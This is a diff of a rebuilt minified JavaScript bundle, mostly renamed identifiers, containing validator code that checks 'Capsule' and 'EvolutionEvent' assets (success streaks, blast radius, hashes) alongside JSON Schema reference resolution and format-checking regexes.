+"asset_id"]),old:i,new:[r],fix:!0}}function Cd(n){return typeof n!="object"||n===null?!1:Object.hasOwn(n,"asset_id")||Object.
+values(n).some(Cd)}function ws(n){return ki(n)??""}const Nw=null;function Fw(n){const{outcome:e}=n;if(!mn(e))return n;const{
+notes:t,details:s,...r}=e;return{...n,outcome:r}}function PN(n){const{outcome:e}=n.value,t=ys(n);return t==="local"?annotationsOf(
+n.value):t!=="hub"||!isJsonObject(e)?[]:Nw.filter(s=>Object.hasOwn(e,s)).map(s=>`outcome.${s}`)}function Pw(n,e){const t=zw(
+n,e),s=Si(n,({value:{capsule_id:r}})=>r);return r=>Lw(r,s.get(r.id)??[],t,e)}function Lw({id:n,value:{gene:e}},t,s,r){const i=[],
+o=[],c={files:0,lines:0};let l;const{successes:B,failure:d}=yd(n,t);for(const h of B){const{value:g}=h,C=s.get(h)??Jw(g,
+r)??(Zw(g,e,r)?void 0:Hw)??(Kw(g)?"it records no change":void 0);C===void 0?(o.push(h),Ww(c,g)||(l??=Ca(g))):i.push({event:Ca(
+g),why:C})}return{count:wd(o),uncounted:i,ended:d!==void 0,...d&&B.length===0&&{failed:Ca(d.value)},radius:c,...l!==void 0&&
+{unmeasured:l}}}function yd(n,e){const t=e.filter(({value:r})=>r.type==="EvolutionEvent"&&r.capsule_id===n).reverse(),s=t.
+findIndex(({value:r})=>!jw(r));return s<0?{successes:t}:{successes:t.slice(0,s),failure:t[s]}}function jw({outcome:n}){return mn(
+n)&&n.status==="success"}function wd(n){const e=n.map(({value:t})=>t.id).filter(t=>typeof t=="string");return n.length-e.
+length+new Set(e).size}function Mw(n,e){const{successes:t,failure:s}=yd(n,e);return{count:wd(t),ended:s!==void 0}}function Gw({
 changes:n,present:e,unread:t}){const s=t.at(-1),r=new Set(n.map(({asset:i})=>i));return e.filter(({type:i,path:o})=>i===
-"EvolutionEvent"&&(!s||o>=s.path)).map(i=>({value:i.value,log:i.path,isNew:r.has(i)}))}const Gw="it does not name the ge\
-ne of the Capsule";function Hw(n,e){const t=new Map,s=new Map,r=new Set;for(const i of n){const o=zw(i,s,e&&r.has(i.log));
-o!==void 0&&t.set(i,o),r.add(i.log);const{id:c}=i.value;typeof c=="string"&&!s.has(c)&&s.set(c,i)}return t}function zw({
+"EvolutionEvent"&&(!s||o>=s.path)).map(i=>({value:i.value,log:i.path,isNew:r.has(i)}))}const Hw="it does not name the ge\
+ne of the Capsule";function zw(n,e){const t=new Map,s=new Map,r=new Set;for(const i of n){const o=Uw(i,s,e&&r.has(i.log));
+o!==void 0&&t.set(i,o),r.add(i.log);const{id:c}=i.value;typeof c=="string"&&!s.has(c)&&s.set(c,i)}return t}function Uw({
 value:n,isNew:e},t,s){const{id:r,parent:i}=n;if(e)return"the change that is judged adds or edits it";const o=typeof r=="\
 string"?t.get(r):void 0;return o!==void 0?Ks(o.value)===Ks(n)?void 0:"an earlier event with other content has its id":typeof i==
-"string"&&i!==""?t.has(i)?void 0:"its parent is not in the log before it":s?"it has no parent":void 0}function Uw(n,e){const{
+"string"&&i!==""?t.has(i)?void 0:"its parent is not in the log before it":s?"it has no parent":void 0}function Jw(n,e){const{
 id:t,asset_id:s}=n;if(s===void 0)return e?"it has no hash":void 0;if(ys({type:"EvolutionEvent",value:n})===void 0)return"\
-its hash does not match its content";const r=typeof t=="string"&&t.trim()!=="";return e&&!r?"it has no id":void 0}function Jw({
-genes_used:n},e,t){return typeof e!="string"||e===""||!Array.isArray(n)?!t:n.includes(e)}function Zw(n,{blast_radius:e}){
-if(e===void 0)return!0;if(!mn(e))return!1;const{files:t,lines:s}=e;return!wd(t)||!wd(s)?!1:(n.files=Math.max(n.files,t),
-n.lines=Math.max(n.lines,s),!0)}function Ww({blast_radius:n}){return mn(n)&&(n.files===0||n.lines===0)}function wd(n){return typeof n==
-"number"&&Number.isSafeInteger(n)&&n>=0}function ma({id:n}){return typeof n=="string"?n:"without an id"}function RN({assets:n}){
-const e=groupBy(Mw(n),({value:t})=>t.capsule_id);return n.changes.flatMap(({kind:t,asset:s})=>{const{success_streak:r}=s.
-value;if(t==="removed"||s.type!=="Capsule"||typeof r!="number")return[];const{count:i,ended:o}=jw(s.id,e.get(s.id)??[]);
+its hash does not match its content";const r=typeof t=="string"&&t.trim()!=="";return e&&!r?"it has no id":void 0}function Zw({
+genes_used:n},e,t){return typeof e!="string"||e===""||!Array.isArray(n)?!t:n.includes(e)}function Ww(n,{blast_radius:e}){
+if(e===void 0)return!0;if(!mn(e))return!1;const{files:t,lines:s}=e;return!bd(t)||!bd(s)?!1:(n.files=Math.max(n.files,t),
+n.lines=Math.max(n.lines,s),!0)}function Kw({blast_radius:n}){return mn(n)&&(n.files===0||n.lines===0)}function bd(n){return typeof n==
+"number"&&Number.isSafeInteger(n)&&n>=0}function Ca({id:n}){return typeof n=="string"?n:"without an id"}function LN({assets:n}){
+const e=groupBy(Gw(n),({value:t})=>t.capsule_id);return n.changes.flatMap(({kind:t,asset:s})=>{const{success_streak:r}=s.
+value;if(t==="removed"||s.type!=="Capsule"||typeof r!="number")return[];const{count:i,ended:o}=Mw(s.id,e.get(s.id)??[]);
 if(r<=i)return[];const c=placeOf(s,["success_streak"]),l=n.unread.at(-1);if(l!==void 0&&!o)return[notChecked(`the succes\
 s streak of the Capsule \`${s.id}\``,l,c)];const B={type:s.type,id:s.id,claim:`claims a success streak of ${r}`,shown:`t\
 he events show ${i}`,fix:"Let the engine append the events of its cycles, or correct `success_streak`"};return[finding("\
-claim-differs",B,c)]})}function NN({assets:{changes:n},counted:e}){return["Capsule","EvolutionEvent"].flatMap(t=>{const s=n.
-filter(({kind:c,asset:l})=>c==="added"&&l.type===t).map(({asset:c})=>({asset:c,size:Kw(c.value.blast_radius)})),r=s.flatMap(
-({size:c})=>c??[]),i=s.at(-1);if(i===void 0||r.length<s.length)return[];const o=r.reduce(qw);if(o.files<e.least.files||o.
-lines<e.least.lines){const c={together:s.length>1,severity:"warning"};return[bd(i.asset,o,e.least,c)]}return s.flatMap(({
-asset:c,size:l})=>l!==void 0&&isSuccess(c.value)&&Yw(l,e.most)?[bd(c,l,e.most,{together:!1,severity:"notice"})]:[])})}function bd(n,e,t,{
-together:s,severity:r}){const{type:i,id:o}=n,c={type:i,id:o,claim:`claims ${_d(e)}${s?" together with the others of the \
-change":""}`,shown:`git counts ${_d(t)} for this change`,fix:"Set `blast_radius` to what the cycle changed, and add the \
-asset in the same change"},l={...placeOf(n,["blast_radius"]),severity:r};return finding("claim-differs",c,l)}function _d({
-files:n,lines:e}){return`${n} ${n===1?"file":"files"} and ${e} ${e===1?"line":"lines"}`}function Kw(n){if(!isJsonObject(
-n))return;const{files:e,lines:t}=n;return typeof e=="number"&&typeof t=="number"?{files:e,lines:t}:void 0}function qw(n,e){
-return{files:n.files+e.files,lines:n.lines+e.lines}}function Yw(n,e){return n.files>e.files||n.lines>e.lines+e.files}const Vw=3,
-Qw=.1;function FN({assets:{changes:n},counted:e}){const{least:t,most:s}=e,r=n.filter(({kind:i,asset:o})=>i==="added"&&o.
+claim-differs",B,c)]})}function jN({assets:{changes:n},counted:e}){return["Capsule","EvolutionEvent"].flatMap(t=>{const s=n.
+filter(({kind:c,asset:l})=>c==="added"&&l.type===t).map(({asset:c})=>({asset:c,size:qw(c.value.blast_radius)})),r=s.flatMap(
+({size:c})=>c??[]),i=s.at(-1);if(i===void 0||r.length<s.length)return[];const o=r.reduce(Yw);if(o.files<e.least.files||o.
+lines<e.least.lines){const c={together:s.length>1,severity:"warning"};return[_d(i.asset,o,e.least,c)]}return s.flatMap(({
+asset:c,size:l})=>l!==void 0&&isSuccess(c.value)&&Vw(l,e.most)?[_d(c,l,e.most,{together:!1,severity:"notice"})]:[])})}function _d(n,e,t,{
+together:s,severity:r}){const{type:i,id:o}=n,c={type:i,id:o,claim:`claims ${Ed(e)}${s?" together with the others of the \
+change":""}`,shown:`git counts ${Ed(t)} for this change`,fix:"Set `blast_radius` to what the cycle changed, and add the \
+asset in the same change"},l={...placeOf(n,["blast_radius"]),severity:r};return finding("claim-differs",c,l)}function Ed({
+files:n,lines:e}){return`${n} ${n===1?"file":"files"} and ${e} ${e===1?"line":"lines"}`}function qw(n){if(!isJsonObject(
+n))return;const{files:e,lines:t}=n;return typeof e=="number"&&typeof t=="number"?{files:e,lines:t}:void 0}function Yw(n,e){
+return{files:n.files+e.files,lines:n.lines+e.lines}}function Vw(n,e){return n.files>e.files||n.lines>e.lines+e.files}const Qw=3,
+Xw=.1;function MN({assets:{changes:n},counted:e}){const{least:t,most:s}=e,r=n.filter(({kind:i,asset:o})=>i==="added"&&o.
 type==="EvolutionEvent");return r.flatMap(({asset:i})=>{const{blast_radius_estimate:o,meta:c,blast_radius:l}=i.value,B=isJsonObject(
-o)?[]:["meta"],d=B.length===0?o:isJsonObject(c)&&c.blast_radius_estimate,h=ga(d);if(h===void 0||h<=0)return[];const g=r.
-length===1,C=g?t.files:ga(l),y=g?s.files:ga(l);if(C===void 0||y===void 0)return[];const _=C/h>Vw;if(!_&&y/h>=Qw)return[];
+o)?[]:["meta"],d=B.length===0?o:isJsonObject(c)&&c.blast_radius_estimate,h=ya(d);if(h===void 0||h<=0)return[];const g=r.
+length===1,C=g?t.files:ya(l),y=g?s.files:ya(l);if(C===void 0||y===void 0)return[];const _=C/h>Qw;if(!_&&y/h>=Xw)return[];
 const k=_?C:y,v=placeOf(i,[...B,"blast_radius_estimate"]),O={type:i.type,id:i.id,claim:`estimates ${h} ${h===1?"file":"f\
 iles"}`,shown:`the change touches ${k}`,fix:"Review the changes that were not planned, or update the estimate"};return[finding(
-"claim-differs",O,v)]})}function ga(n){return isJsonObject(n)&&typeof n.files=="number"?n.files:void 0}function vn(n){return encodeURI(
-Xw(n)).replace(/#/g,"%23")}function Xw(n){return n.replace(/~/g,"~0").replace(/\//g,"~1")}const eb=/^[A-Za-z0-9._~!$&'()*+,;=:@/?-]$/,
-tb=/^%[0-9A-Fa-f]{2}$/,nb=/^[A-Za-z0-9._~-]$/;function sb(n){let e="";for(let t=0;t<n.length;){const s=n[t],r=n.slice(t,
-t+3);if(s==="%"&&tb.test(r)){const o=String.fromCharCode(parseInt(r.slice(1),16));e+=nb.test(o)?o:r.toUpperCase(),t+=3;continue}
-const i=String.fromCodePoint(n.codePointAt(t));e+=eb.test(i)?i:encodeURIComponent(i),t+=i.length}return e}function $i(n,e){
-const t=new URL(n,e.href);return t.hash=t.hash?sb(t.hash.slice(1)):"",t}const PN={additionalItems:!0,unevaluatedItems:!0,
-items:!0,contains:!0,additionalProperties:!0,unevaluatedProperties:!0,propertyNames:!0,not:!0,if:!0,then:!0,else:!0},rb={
-prefixItems:!0,items:!0,allOf:!0,anyOf:!0,oneOf:!0},ib={$defs:!0,definitions:!0,properties:!0,patternProperties:!0,dependentSchemas:!0},
-ob={id:!0,$id:!0,$ref:!0,$schema:!0,$anchor:!0,$vocabulary:!0,$comment:!0,default:!0,enum:!0,const:!0,required:!0,dependentRequired:!0,
+"claim-differs",O,v)]})}function ya(n){return isJsonObject(n)&&typeof n.files=="number"?n.files:void 0}function vn(n){return encodeURI(
+eb(n)).replace(/#/g,"%23")}function eb(n){return n.replace(/~/g,"~0").replace(/\//g,"~1")}const tb=/^[A-Za-z0-9._~!$&'()*+,;=:@/?-]$/,
+nb=/^%[0-9A-Fa-f]{2}$/,sb=/^[A-Za-z0-9._~-]$/;function rb(n){let e="";for(let t=0;t<n.length;){const s=n[t],r=n.slice(t,
+t+3);if(s==="%"&&nb.test(r)){const o=String.fromCharCode(parseInt(r.slice(1),16));e+=sb.test(o)?o:r.toUpperCase(),t+=3;continue}
+const i=String.fromCodePoint(n.codePointAt(t));e+=tb.test(i)?i:encodeURIComponent(i),t+=i.length}return e}function Ri(n,e){
+const t=new URL(n,e.href);return t.hash=t.hash?rb(t.hash.slice(1)):"",t}const GN={additionalItems:!0,unevaluatedItems:!0,
+items:!0,contains:!0,additionalProperties:!0,unevaluatedProperties:!0,propertyNames:!0,not:!0,if:!0,then:!0,else:!0},ib={
+prefixItems:!0,items:!0,allOf:!0,anyOf:!0,oneOf:!0},ob={$defs:!0,definitions:!0,properties:!0,patternProperties:!0,dependentSchemas:!0},
+ab={id:!0,$id:!0,$ref:!0,$schema:!0,$anchor:!0,$vocabulary:!0,$comment:!0,default:!0,enum:!0,const:!0,required:!0,dependentRequired:!0,
 type:!0,maximum:!0,minimum:!0,exclusiveMaximum:!0,exclusiveMinimum:!0,multipleOf:!0,maxLength:!0,minLength:!0,pattern:!0,
-format:!0,maxItems:!0,minItems:!0,uniqueItems:!0,maxProperties:!0,minProperties:!0};let ab=typeof self<"u"&&self.location&&
+format:!0,maxItems:!0,minItems:!0,uniqueItems:!0,maxProperties:!0,minProperties:!0};let cb=typeof self<"u"&&self.location&&
 self.location.origin!=="null"?new URL(self.location.origin+self.location.pathname+location.search):new URL("https://gith\
-ub.com/cfworker");function bs(n,e=Object.create(null),t=ab,s=""){if(n&&typeof n=="object"&&!Array.isArray(n)){const i=n.
-$id||n.id;if(i){const o=$i(i,t);o.hash.length>1?e[o.href]=n:(o.hash="",s===""?t=o:bs(n,e,t))}}else if(n!==!0&&n!==!1)return e;
+ub.com/cfworker");function bs(n,e=Object.create(null),t=cb,s=""){if(n&&typeof n=="object"&&!Array.isArray(n)){const i=n.
+$id||n.id;if(i){const o=Ri(i,t);o.hash.length>1?e[o.href]=n:(o.hash="",s===""?t=o:bs(n,e,t))}}else if(n!==!0&&n!==!1)return e;
 const r=t.href+(s?"#"+s:"");if(e[r]!==void 0&&e[r]!==n)throw new Error(`Duplicate schema URI "${r}".`);if(e[r]=n,n===!0||
 n===!1)return e;if(n.__absolute_uri__===void 0&&Object.defineProperty(n,"__absolute_uri__",{enumerable:!1,value:r}),n.$ref&&
-n.__absolute_ref__===void 0){const i=$i(n.$ref,t);Object.defineProperty(n,"__absolute_ref__",{enumerable:!1,value:i.href})}
-if(n.$recursiveRef&&n.__absolute_recursive_ref__===void 0){const i=$i(n.$recursiveRef,t);Object.defineProperty(n,"__abso\
-lute_recursive_ref__",{enumerable:!1,value:i.href})}if(n.$anchor){const i=$i("#"+n.$anchor,t);e[i.href]=n}for(let i in n){
-if(ob[i])continue;const o=`${s}/${vn(i)}`,c=n[i];if(Array.isArray(c)){if(rb[i]){const l=c.length;for(let B=0;B<l;B++)bs(
-c[B],e,t,`${o}/${B}`)}}else if(ib[i])for(let l in c)bs(c[l],e,t,`${o}/${vn(l)}`);else bs(c,e,t,o)}return e}function Dr(n,e){
+n.__absolute_ref__===void 0){const i=Ri(n.$ref,t);Object.defineProperty(n,"__absolute_ref__",{enumerable:!1,value:i.href})}
+if(n.$recursiveRef&&n.__absolute_recursive_ref__===void 0){const i=Ri(n.$recursiveRef,t);Object.defineProperty(n,"__abso\
+lute_recursive_ref__",{enumerable:!1,value:i.href})}if(n.$anchor){const i=Ri("#"+n.$anchor,t);e[i.href]=n}for(let i in n){
+if(ab[i])continue;const o=`${s}/${vn(i)}`,c=n[i];if(Array.isArray(c)){if(ib[i]){const l=c.length;for(let B=0;B<l;B++)bs(
+c[B],e,t,`${o}/${B}`)}}else if(ob[i])for(let l in c)bs(c[l],e,t,`${o}/${vn(l)}`);else bs(c,e,t,o)}return e}function Dr(n,e){
 const t=typeof n;if(t!==typeof e)return!1;const s=Array.isArray(n),r=Array.isArray(e);if(s!==r)return!1;if(s){const i=n.
 length;if(i!==e.length)return!1;for(let o=0;o<i;o++)if(!Dr(n[o],e[o]))return!1;return!0}if(t==="object"){if(!n||!e)return n===
 e;const i=Object.keys(n),o=Object.keys(e);if(i.length!==o.length)return!1;for(const l of i)if(!Object.prototype.hasOwnProperty.
-call(e,l)||!Dr(n[l],e[l]))return!1;return!0}return n===e}const cb=/^(\d\d\d\d)-(\d\d)-(\d\d)$/,ub=[0,31,28,31,30,31,30,31,
-31,30,31,30,31],lb=/^(\d\d):(\d\d):(\d\d)(\.\d+)?(z|([+-])(\d\d):(\d\d))?$/i,Ed=/^(?=.{1,253}$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[-0-9a-z]{0,61}[0-9a-z])?)*$/i,
-db=/^(?:[a-z][a-z0-9+\-.]*:)?(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'"()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?(?:\?(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i,
-Bb=/^(?:(?:[^\x00-\x20\x7f"<>%\\^`{|}]|%[0-9a-f]{2})|\{[+#./;?&=,!@|]?(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?(?:,(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?)*\})*$/i,
-fb=/^(?:(?:https?|ftp):\/\/)(?:\S+(?::\S*)?@)?(?:(?!10(?:\.\d{1,3}){3})(?!127(?:\.\d{1,3}){3})(?!169\.254(?:\.\d{1,3}){2})(?!192\.168(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)(?:\.(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)*(?:\.(?:[a-z\u{00a1}-\u{ffff}]{2,})))(?::\d{2,5})?(?:\/[^\s]*)?$/iu,
-hb=/^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i,pb=/^(?:\/(?:[^~/]|~0|~1)*)*$/,mb=/^#(?:\/(?:[a-z0-9_\-.!$&'()*+,;:=@]|%[0-9a-f]{2}|~0|~1)*)*$/i,
-gb=/^(?:0|[1-9][0-9]*)(?:#|(?:\/(?:[^~/]|~0|~1)*)*)$/,Cb=/^("(?:[\x20-\x21\x23-\x5b\x5d-\x7e]|\\[\x20-\x7e])*"|[a-z0-9.!#$%&'*+/=?^_`{|}~-]+)@(.+)$/i,
-yb=n=>{const e=n.match(Cb);if(!e)return!1;const t=e[1],s=e[2];if(!t||!s||t.length>64||s.length>253||t[0]!=='"'&&(t[0]===
+call(e,l)||!Dr(n[l],e[l]))return!1;return!0}return n===e}const ub=/^(\d\d\d\d)-(\d\d)-(\d\d)$/,lb=[0,31,28,31,30,31,30,31,
+31,30,31,30,31],db=/^(\d\d):(\d\d):(\d\d)(\.\d+)?(z|([+-])(\d\d):(\d\d))?$/i,vd=/^(?=.{1,253}$)[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?(?:\.[a-z0-9](?:[-0-9a-z]{0,61}[0-9a-z])?)*$/i,
+Bb=/^(?:[a-z][a-z0-9+\-.]*:)?(?:\/?\/(?:(?:[a-z0-9\-._~!$&'()*+,;=:]|%[0-9a-f]{2})*@)?(?:\[(?:(?:(?:(?:[0-9a-f]{1,4}:){6}|::(?:[0-9a-f]{1,4}:){5}|(?:[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){4}|(?:(?:[0-9a-f]{1,4}:){0,1}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){3}|(?:(?:[0-9a-f]{1,4}:){0,2}[0-9a-f]{1,4})?::(?:[0-9a-f]{1,4}:){2}|(?:(?:[0-9a-f]{1,4}:){0,3}[0-9a-f]{1,4})?::[0-9a-f]{1,4}:|(?:(?:[0-9a-f]{1,4}:){0,4}[0-9a-f]{1,4})?::)(?:[0-9a-f]{1,4}:[0-9a-f]{1,4}|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?))|(?:(?:[0-9a-f]{1,4}:){0,5}[0-9a-f]{1,4})?::[0-9a-f]{1,4}|(?:(?:[0-9a-f]{1,4}:){0,6}[0-9a-f]{1,4})?::)|[Vv][0-9a-f]+\.[a-z0-9\-._~!$&'()*+,;=:]+)\]|(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)|(?:[a-z0-9\-._~!$&'"()*+,;=]|%[0-9a-f]{2})*)(?::\d*)?(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*|\/(?:(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?|(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})+(?:\/(?:[a-z0-9\-._~!$&'"()*+,;=:@]|%[0-9a-f]{2})*)*)?(?:\?(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?(?:#(?:[a-z0-9\-._~!$&'"()*+,;=:@/?]|%[0-9a-f]{2})*)?$/i,
+fb=/^(?:(?:[^\x00-\x20\x7f"<>%\\^`{|}]|%[0-9a-f]{2})|\{[+#./;?&=,!@|]?(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?(?:,(?:[a-z0-9_]|%[0-9a-f]{2})+(?:\.(?:[a-z0-9_]|%[0-9a-f]{2})+)*(?::[1-9][0-9]{0,3}|\*)?)*\})*$/i,
+hb=/^(?:(?:https?|ftp):\/\/)(?:\S+(?::\S*)?@)?(?:(?!10(?:\.\d{1,3}){3})(?!127(?:\.\d{1,3}){3})(?!169\.254(?:\.\d{1,3}){2})(?!192\.168(?:\.\d{1,3}){2})(?!172\.(?:1[6-9]|2\d|3[0-1])(?:\.\d{1,3}){2})(?:[1-9]\d?|1\d\d|2[01]\d|22[0-3])(?:\.(?:1?\d{1,2}|2[0-4]\d|25[0-5])){2}(?:\.(?:[1-9]\d?|1\d\d|2[0-4]\d|25[0-4]))|(?:(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)(?:\.(?:[a-z\u{00a1}-\u{ffff}0-9]+-?)*[a-z\u{00a1}-\u{ffff}0-9]+)*(?:\.(?:[a-z\u{00a1}-\u{ffff}]{2,})))(?::\d{2,5})?(?:\/[^\s]*)?$/iu,
+pb=/^[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}$/i,mb=/^(?:\/(?:[^~/]|~0|~1)*)*$/,gb=/^#(?:\/(?:[a-z0-9_\-.!$&'()*+,;:=@]|%[0-9a-f]{2}|~0|~1)*)*$/i,
+Cb=/^(?:0|[1-9][0-9]*)(?:#|(?:\/(?:[^~/]|~0|~1)*)*)$/,yb=/^("(?:[\x20-\x21\x23-\x5b\x5d-\x7e]|\\[\x20-\x7e])*"|[a-z0-9.!#$%&'*+/=?^_`{|}~-]+)@(.+)$/i,
+wb=n=>{const e=n.match(yb);if(!e)return!1;const t=e[1],s=e[2];if(!t||!s||t.length>64||s.length>253||t[0]!=='"'&&(t[0]===
 "."||t.endsWith(".")||t.includes("..")))return!1;if(s.startsWith("[")&&s.endsWith("]")){const r=s.slice(1,-1);return/^ipv6:/i.
-test(r)?kd.test(r.slice(5)):vd.test(r)}return Ed.test(s)},vd=/^(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)$/,
-kd=/^((([0-9a-f]{1,4}:){7}([0-9a-f]{1,4}|:))|(([0-9a-f]{1,4}:){6}(:[0-9a-f]{1,4}|((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){5}(((:[0-9a-f]{1,4}){1,2})|:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3})|:))|(([0-9a-f]{1,4}:){4}(((:[0-9a-f]{1,4}){1,3})|((:[0-9a-f]{1,4})?:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){3}(((:[0-9a-f]{1,4}){1,4})|((:[0-9a-f]{1,4}){0,2}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){2}(((:[0-9a-f]{1,4}){1,5})|((:[0-9a-f]{1,4}){0,3}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(([0-9a-f]{1,4}:){1}(((:[0-9a-f]{1,4}){1,6})|((:[0-9a-f]{1,4}){0,4}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:))|(:(((:[0-9a-f]{1,4}){1,7})|((:[0-9a-f]{1,4}){0,5}:((25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)(\.(25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)){3}))|:)))$/i,
-wb=n=>/^P(?:\d+W|(?:(?:\d+Y(?:\d+M(?:\d+D)?)?|\d+M(?:\d+D)?|\d+D)(?:T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S))?|T(?:\d+H(?:\d+M(?:\d+S)?)?|\d+M(?:\d+S)?|\d+S)))$/.
-test(n);function Pn(n){return n.test.bind(n)}const Dd={date:xd,time:Od.bind(void 0,!0),"date-time":Eb,duration:wb,uri:Db,
-"uri-reference":Pn(db),"uri-template":Pn(Bb),url:Pn(fb),email:yb,hostname:Pn(Ed),ipv4:Pn(vd),ipv6:Pn(kd),regex:Ob,uuid:Pn(
-hb),"json-pointer":Pn(pb),"json-pointer-uri-fragment":Pn(mb),"relative-json-pointer":Pn(gb)};function bb(n){return n%4===
-0&&(n%100!==0||n%400===0)}function xd(n){const e=n.match(cb);if(!e)return!1;const t=e[1],s=e[2],r=e[3];if(!t||!s||!r)return!1;
-const i=+t,o=+s,c=+r,l=o==2&&bb(i)?29:ub[o];return o>=1&&o<=12&&c>=1&&l!==void 0&&c<=l}function Od(n,e){const t=e.match(
-lb);if(!t)return!1;const s=t[1],r=t[2],i=t[3];if(!s||!r||!i)return!1;const o=+s,c=+r,l=+i,B=t[5],d=t[6],h=+(t[7]??0),g=+(t[8]??
+test(r)?Dd.test(r.slice(5)):kd.test(r)}return vd.test(s)},kd=/^(?:(?:25[0-5]|2[0-4]\d|[01]?\d\d?)\.){3}(?:25[0-5]|2[0-4]\d|[01]?\d\d?)$/,
